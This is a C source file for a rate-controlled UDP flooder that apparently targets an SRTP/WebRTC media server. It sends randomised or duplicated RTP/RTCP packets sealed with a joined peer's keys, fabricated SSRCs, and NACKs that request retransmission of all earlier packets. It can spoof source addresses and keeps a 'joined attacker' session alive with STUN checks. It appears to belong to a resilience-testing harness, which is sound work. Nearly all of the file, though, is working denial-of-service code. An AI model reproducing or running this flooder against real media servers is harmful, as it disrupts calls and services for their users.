/* A flood: datagrams that mean harm, or more of them than anybody needs, as fast as it is told to.
 *
 * What they are is Python's (attacks.py): templates, and what is done with each before it is sent: bytes made random,
 * numbers that go on, sealed as SRTP or SRTCP with a joined peer's keys. Here is only what must not be slow.
 *
 * It has no loop of its own. The traffic gives it turns of its loop (traffic.h, besides_function), because two threads
 * on one core would measure the scheduler. A turn sends a few datagrams, so that the traffic is not late. */
#include "flooder.h"

/* ---- set-up ---------------------------------------------------------------------------------------------------- */

struct flood *flood_new(const struct flood_plan *plan, void *protect, void *protect_rtcp, void *remove, void *tx) {
    struct flood *f = calloc(1, sizeof(struct flood));
    if (!f)
        return NULL;
    f->plan = *plan;
    f->library.protect = (srtp_function)protect;
    f->library.protect_rtcp = (srtp_function)protect_rtcp;
    f->remove = (srtp_remove_function)remove;
    f->tx = tx;
    f->random = 0x9E3779B97F4A7C15u;
    f->seq = (uint16_t)plan->first_seq;
    for (int i = 0; i < LINES; i++)
        f->line[i].fd = -1;
    return f;
}

/* Sockets connected to the server, used in turn. */
void flood_socket(struct flood *f, int fd) {
    if (f->fds < SOCKETS)
        f->fd[f->fds++] = fd;
}

void flood_template(struct flood *f, const uint8_t *data, int length) {
    if (f->templates == TEMPLATES || length > LARGEST || !(f->data[f->templates] = malloc((size_t)length + 1)))
        return;
    memcpy(f->data[f->templates], data, (size_t)length);
    f->length[f->templates++] = length;
}

/* What keeps a joined attacker's connection alive: its STUN checks, sent now and then through its own socket. */
void flood_check(struct flood *f, int fd, const uint8_t *data, int length) {
    if (f->checks == CHECKS || length > SLOT)
        return;
    f->check_fd = fd;
    memcpy(f->check[f->checks], data, (size_t)length);
    f->check_length[f->checks++] = length;
}

void flood_target(struct flood *f, const char *ip, int port) {
    f->server.sin_family = AF_INET;
    f->server.sin_port = htons((uint16_t)port);
    inet_pton(AF_INET, ip, &f->server.sin_addr);
}

void flood_source(struct flood *f, const char *ip) {
    if (f->sources < SOURCES)
        inet_pton(AF_INET, ip, &f->source[f->sources++]);
}

void flood_counts(const struct flood *f, struct flood_counts *out) {
    *out = f->counts;
    out->next_seq = f->seq;
}

void flood_free(struct flood *f) {
    for (int i = 0; i < f->templates; i++)
        free(f->data[i]);
    for (int i = 0; i < LINES; i++)
        if (f->line[i].fd >= 0)
            close(f->line[i].fd);
    free(f);
}

/* ---- one datagram ---------------------------------------------------------------------------------------------- */

/* Asks for what was sent last, and for what was before that: entries of 17 packets each (RFC 4585, section 6.2.1). */
static void ask_for_all(struct flood *f, uint8_t *out, int length) {
    uint16_t first = f->newest;
    for (int at = 12; at + 4 <= length; at += 4) {
        first = (uint16_t)(first - 17);
        put16(out + at, first);
        put16(out + at + 2, 0xFFFF);
    }
}

static void seal(struct flood *f, uint8_t *out, int *length) {
    const struct flood_plan *plan = &f->plan;
    if (plan->seal == CLEAR)
        return;
    if (plan->seal == RTCP) {
        f->counts.unsealed += f->library.protect_rtcp(f->tx, out, length) != 0;
        return;
    }
    put16(out + 2, f->seq++);
    put32(out + 4, f->timestamp += 3000);
    if (plan->transport_at)
        put16(out + plan->transport_at, f->transport_seq++);
    if (plan->strangers)
        put32(out + 8, (uint32_t)next_random(f));
    uint32_t ssrc = get32(out + 8);
    if (f->library.protect(f->tx, out, length) != 0)
        f->counts.unsealed++; /* libsrtp wouldn't send such a thing: it goes as it is */
    else if (plan->strangers)
        f->remove(f->tx, htonl(ssrc)); /* else its list of streams would be what is measured */
}

static int compose(struct flood *f, uint8_t *out) {
    const struct flood_plan *plan = &f->plan;
    if (plan->copies && f->copied) {
        memcpy(out, f->copy, (size_t)f->copied);
        return f->copied;
    }
    int which = f->next_template++ % f->templates, length = f->length[which];
    int until = plan->fresh_until && plan->fresh_until < length ? plan->fresh_until : length;
    memcpy(out, f->data[which], (size_t)length);
    if (plan->fresh_from >= 0)
        for (int at = plan->fresh_from; at < until; at += 8) {
            uint64_t value = next_random(f);
            memcpy(out + at, &value, (size_t)(until - at < 8 ? until - at : 8));
        }
    if (plan->asks)
        ask_for_all(f, out, length);
    seal(f, out, &length);
    if (plan->copies) {
        memcpy(f->copy, out, (size_t)length);
        f->copied = length;
    }
    return length;
}

/* ---- turns ----------------------------------------------------------------------------------------------------- */

/* What comes back: counted, and looked at only for the number of what a slot got last, which stands in the clear. */
static void drain(struct flood *f, int fd) {
    struct mmsghdr messages[TURN];
    struct iovec vectors[TURN];
    int got;
    do {
        for (int i = 0; i < TURN; i++) {
            vectors[i] = (struct iovec){f->in[i], sizeof(f->in[i])};
            messages[i].msg_hdr = (struct msghdr){.msg_iov = &vectors[i], .msg_iovlen = 1};
        }
        got = recvmmsg(fd, messages, TURN, MSG_DONTWAIT, NULL);
        for (int i = 0; i < got; i++) {
            const uint8_t *data = f->in[i];
            f->counts.back++;
            f->counts.bytes_back += messages[i].msg_len + HEADERS;
            if (messages[i].msg_len > 12 && data[0] >> 6 == 2 && get32(data + 8) == f->plan.slot_ssrc)
                f->newest = get16(data + 2);
        }
    } while (got == TURN);
}

static int send_some(struct flood *f, int count) {
    struct mmsghdr messages[TURN];
    struct iovec vectors[TURN];
    int at = f->fds > 1 && f->plan.copies ? (f->copied ? 1 : 0) : (int)(f->turns % (uint64_t)f->fds);
    if (f->plan.copies && !f->copied)
        count = 1; /* the first one is real, and may come from where it belongs */
    for (int i = 0; i < count; i++) {
        vectors[i] = (struct iovec){f->out[i], (size_t)compose(f, f->out[i])};
        messages[i].msg_hdr = (struct msghdr){.msg_iov = &vectors[i], .msg_iovlen = 1};
    }
    int sent = sendmmsg(f->fd[at], messages, (unsigned)count, MSG_DONTWAIT);
    for (int i = 0; i < sent; i++)
        f->counts.bytes_sent += vectors[i].iov_len + HEADERS;
    return sent;
}

/* See besides_function in traffic.h. */
uint64_t flood_turn(struct flood *f, uint64_t now) {
    const struct flood_plan *plan = &f->plan;
    if (!f->began)
        f->began = now;
    f->turns++;
    for (int i = 0; f->turns % 16 == 0 && i < f->fds; i++)
        drain(f, f->fd[i]);
    if (f->checks && now >= f->check_at) {
        int which = f->next_check++ % f->checks;
        f->check_at = now + CHECK_EVERY_NS;
        (void)!send(f->check_fd, f->check[which], (size_t)f->check_length[which], MSG_DONTWAIT);
    }
    if (f->counts.sent >= plan->total)
        return now + 1000000;
    double interval = 1e9 / plan->packets_per_s, bit = 1e9 / plan->bits_per_s;
    uint64_t due = (uint64_t)((double)(now - f->began) / interval) + 1, done = f->counts.sent + f->counts.failed;
    uint64_t paid = f->began + (uint64_t)(8 * (double)f->counts.bytes_sent * bit);
    if (done < due && paid <= now) {
        int count = due - done < TURN ? (int)(due - done) : TURN;
        if (plan->total - f->counts.sent < (uint64_t)count)
            count = (int)(plan->total - f->counts.sent);
        int sent = plan->frames ? send_frames(f, count) : send_some(f, count);
        f->counts.sent += sent > 0 ? (uint64_t)sent : 0;
        f->counts.failed += sent > 0 ? 0 : 1;
        done = f->counts.sent + f->counts.failed;
        paid = f->began + (uint64_t)(8 * (double)f->counts.bytes_sent * bit);
    }
    uint64_t next = f->began + (uint64_t)((double)done * interval);
    return next > paid ? next : paid;
}
